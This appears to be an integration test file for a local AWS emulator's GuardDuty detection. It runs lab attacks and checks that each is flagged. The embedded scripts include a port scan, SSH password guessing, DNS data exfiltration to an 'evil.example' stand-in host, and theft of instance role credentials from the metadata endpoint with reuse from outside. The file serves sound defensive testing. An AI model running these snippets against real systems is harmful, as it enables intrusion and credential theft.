/** Attacks in a lab, whose flow records, queries and API calls reach a server: each is found within a minute. */
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import * as gd from '@aws-sdk/client-guardduty'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import type { Network } from '../../src/engines/network/network.ts'
import { merlonAlone, startAlone, temporaryFolder } from '../process.ts'
import { isLabPossible, lab, office } from './lab.fixture.ts'
import { ROLE, servedLab } from './served-lab.fixture.ts'

/** The account of the lab's descriptions. */
const LAB_ACCOUNT = '111122223333'
const ssh = { id: 'sgr-ssh', egress: false, protocol: 6, from: 22, to: 22, cidr: '0.0.0.0/0' }
const open: Network = {
  ...office,
  groups: office.groups.map((group) => (group.id === 'sg-web' ? { ...group, rules: [...group.rules, ssh] } : group)),
}

/** A connection elsewhere first: which end of a record is the instance is seen from what its records have in common. */
const SCAN = `
  const net = require('node:net')
  const connect = (host, port) => net.connect({ host, port, localAddress: '10.0.2.10' }).on('error', () => undefined)
  connect('10.0.1.10', 443).end()
  setTimeout(() => { for (let port = 1; port <= 80; port++) connect('10.1.1.10', port).setTimeout(500, function () { this.destroy() }) }, 1500)
  setTimeout(() => process.exit(0), 3500)
`
const GUESS = `
  const net = require('node:net')
  let count = 0
  const guess = () => {
    if (count++ === 15) return
    const socket = net.connect({ host: '198.18.0.10', port: 22, localAddress: '203.0.113.9' }, () => socket.end('password ' + count))
    socket.on('error', () => undefined).on('close', () => setTimeout(guess, 50)).resume()
  }
  guess()
`

describe.skipIf(!isLabPossible)('In the lab', () => {
  test('a port scan of an instance and the guessing of passwords are found from their flow records', async () => {
    const folder = temporaryFolder()
    const data = ['--data', join(folder, 'data')]
    const server = await startAlone([...data, '--no-console'])
    try {
      const [account] = server.accounts
      const { accessKeyId, secretAccessKey } = account!
      const credentials = { accessKeyId, secretAccessKey }
      const guardduty = new gd.GuardDutyClient({ endpoint: server.url, region: 'us-east-1', credentials })
      const { DetectorId } = await guardduty.send(new gd.CreateDetectorCommand({ Enable: true }))

      mkdirSync(join(folder, 'flows'))
      const attacks = { scan: ['10.0.2.10', SCAN], guess: ['internet', GUESS] } as const
      for (const [name, [end, script]] of Object.entries(attacks)) {
        const { status, stdout } = await lab(open, '--at', end, '--flows', '--', process.execPath, '-e', script)
        expect(status).toBe(0)
        writeFileSync(join(folder, 'flows', `${name}.log`), stdout.replaceAll(LAB_ACCOUNT, account!.accountId))
      }
      const sent = await merlonAlone(['net', 'import-flows', '--files', join(folder, 'flows'), ...data])
      expect(sent.stderr).toBe('')
      expect(sent.stdout).toMatch(/ us-east-1: \d+ events sent\n$/)

      const found = await vi.waitFor(
        async () => {
          const { FindingIds } = await guardduty.send(new gd.ListFindingsCommand({ DetectorId }))
          const { Findings } = await guardduty.send(new gd.GetFindingsCommand({ DetectorId, FindingIds }))
          const ofMachines = Findings!.filter(({ Type }) => Type!.includes(':EC2/'))
          expect(ofMachines).toHaveLength(2)
          return ofMachines.map(({ Type, Service }) => [Type, Service!.ResourceRole]).sort()
        },
        { timeout: 60_000, interval: 200 },
      )
      expect(found).toEqual([
        ['Recon:EC2/Portscan', 'ACTOR'],
        ['UnauthorizedAccess:EC2/SSHBruteForce', 'TARGET'],
      ])
    } finally {
      await server.stop('SIGKILL')
    }
  })
})

/** What a machine gets for its role, as variables of the AWS CLI. */
const CREDENTIALS = `
  U=http://169.254.169.254/latest; T=$(curl -sf -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $U/api/token)
  curl -sf -H "X-aws-ec2-metadata-token: $T" $U/meta-data/iam/security-credentials/${ROLE}`
/** By the resolver of the machine's own configuration: names with 40 characters of data each. */
const LOOK_UP = `
  const { createHash } = require('node:crypto')
  const { resolveTxt } = require('node:dns').promises
  const name = (at) => createHash('sha1').update(String(at)).digest('hex') + '.evil.example'
  const run = async () => { for (let at = 0; at < 60; at++) await resolveTxt(name(at)).catch((error) => { if (error.code !== 'ENOTFOUND') throw error }) }
  run()
`

describe.skipIf(!isLabPossible)('In a lab with a server', () => {
  let it: Awaited<ReturnType<typeof servedLab>>
  beforeAll(async () => {
    it = await servedLab()
  })
  afterAll(() => it?.server.stop('SIGKILL'))

  test('data in the names of queries is found, with its machine', async () => {
    const { status, stderr } = await it.at('web', `exec '${process.execPath}' -e "${LOOK_UP.replaceAll('"', '\\"')}"`)
    expect([status, stderr]).toEqual([0, ''])

    const { Resource } = await it.found('Trojan:EC2/DNSDataExfiltration')
    expect(Resource?.InstanceDetails?.InstanceId).toBe(it.web.InstanceId)
  })

  test('credentials of a machine are found where they are used elsewhere: on the internet, and on another machine', async () => {
    const type = 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration'
    const { stdout } = await it.at('web', `${CREDENTIALS}; aws sts get-caller-identity >/dev/null`)
    const { AccessKeyId, SecretAccessKey, Token } = JSON.parse(stdout)
    const stolen = `AWS_ACCESS_KEY_ID=${AccessKeyId} AWS_SECRET_ACCESS_KEY=${SecretAccessKey} AWS_SESSION_TOKEN=${Token}`
    const call = `${stolen} aws sts get-caller-identity --query Arn --output text`

    expect((await it.at('internet', call)).stdout).toContain(it.web.InstanceId)
    const outside = await it.found(`${type}.OutsideAWS`)
    expect(outside.Service?.Action?.AwsApiCallAction?.RemoteIpDetails?.IpAddressV4).toBe('192.0.2.1')
    expect(outside.Service?.Count).toBe(1)
    expect((await it.at('db', call)).stdout).toContain(it.web.InstanceId)
    const inside = await it.found(`${type}.InsideAWS`)
    expect(inside.Service?.Action?.AwsApiCallAction?.RemoteIpDetails?.IpAddressV4).toBe(it.publicAddress(it.db))
  })
})
